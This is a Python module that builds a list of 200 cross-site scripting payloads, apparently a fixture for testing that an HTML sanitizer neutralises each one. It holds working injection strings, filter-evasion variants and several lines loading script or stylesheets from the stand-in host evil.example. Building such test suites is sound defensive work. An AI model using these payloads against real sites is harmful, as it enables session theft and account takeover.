"""Two hundred ways to get a script into a page. Each carries its mark, and none may come back as it was written."""

MARK = "xss"

WHOLE = [
    "<script>alert('{m}')</script>",
    "</script><script>alert('{m}')</script>",
    "\"><script>alert('{m}')</script>",
    "'><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "</textarea><script>alert('{m}')</script>",
    "</select><script>alert('{m}')</script>",
    "</option></select><img src=x onerror=alert('{m}')>",
    "</style><script>alert('{m}')</script>",
    "</noscript><img src=x onerror=alert('{m}')>",
    "--><script>alert('{m}')</script><!--",
    "]]><script>alert('{m}')</script>",
    "<<script>alert('{m}')//<</script>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<ScRiPt>alert('{m}')</sCrIpT>",
    "<script/{m}>alert(1)</script/{m}>",
    "<script\t{m}>alert(1)</script>",
    "<script src=//evil.example/{m}.js></script>",
    "<script src=data:text/javascript,alert('{m}')></script>",
    "<svg><script>alert('{m}')</script></svg>",
    "<svg><script xlink:href=data:,alert('{m}')></script></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert('{m}')</script>\">",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",
    "<iframe src=javascript:alert('{m}')></iframe>",
    "<object data=javascript:alert('{m}')></object>",
    "<embed src=javascript:alert('{m}')>",
    "<a href=javascript:alert('{m}')>x</a>",
    "<a href=\"java&#115;cript:alert('{m}')\">x</a>",
    "<a href=\"  javascript:alert('{m}')\">x</a>",
    "<form action=javascript:alert('{m}')><input type=submit></form>",
    "<button form=f formaction=javascript:alert('{m}')>x</button>",
    "<isindex action=javascript:alert('{m}')>",
    "<base href=javascript:alert('{m}')//>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('{m}')\">",
    "<link rel=stylesheet href=//evil.example/{m}.css>",
    "<style>@import '//evil.example/{m}.css';</style>",
    "<div style=\"background:url(javascript:alert('{m}'))\">x</div>",
    "<table background=javascript:alert('{m}')><tr><td>x</table>",
    "<template><script>alert('{m}')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    "<img src=\"x`<script>alert('{m}')</script>\"` `>",
    "<img src=x:x onerror=alert('{m}')//",
    "<image src=x onerror=alert('{m}')>",
    '<img """><script>alert(\'{m}\')</script>">',
    "<b hx-get=//evil.example/{m} hx-trigger=load>x</b>",
    "<b data-hx-on:load=alert('{m}')>x</b>",
    "<b hx-on::load=alert('{m}')>x</b>",
    "{{{{ constructor.constructor('alert({m})')() }}}}<b>{m}</b>",
    "{{% include '{m}' %}}<b>{m}</b>",
    "${{alert('{m}')}}<b>{m}</b>",
    "\" onfocus=alert('{m}') autofocus x=\"<",
    "' onmouseover=alert('{m}') x='<",
    "\" style=position:fixed;inset:0 onclick=alert('{m}') x=\"<",
    "` onclick=alert('{m}')<",
    "<!--[if gte IE 4]><script>alert('{m}')</script><![endif]-->",
    "<?xml version=\"1.0\"?><script>alert('{m}')</script>",
    "<![CDATA[<script>alert('{m}')</script>]]>",
    "<x onclick=alert('{m}')>x</x>",
    "<input autofocus onfocus=alert('{m}')>",
    "\u2028<script>alert('{m}')</script>\u2029",
    "+ADw-script+AD4-<b>{m}</b>",
    "%3Cscript%3E<b>{m}</b>",
    "&lt;script&gt;<b>{m}</b>&lt;/script&gt;",
    "\\u003cscript\\u003e<b>{m}</b>",
]
ELEMENTS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "marquee", "object", "input"]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart", "onstart", "onmouseover"]
SEPARATORS = [" ", "/", "\t", "\n"]


def all_of_them() -> list[str]:
    made = [
        f"<{element}{separator}{event}=alert('{{m}}')>"
        for number, element in enumerate(ELEMENTS)
        for event in EVENTS
        for separator in (SEPARATORS[number % 4], SEPARATORS[(number + 1) % 4])
    ]
    return [template.format(m=f"{MARK}{number}") for number, template in enumerate([*WHOLE, *made][:200])]


PAYLOADS = all_of_them()
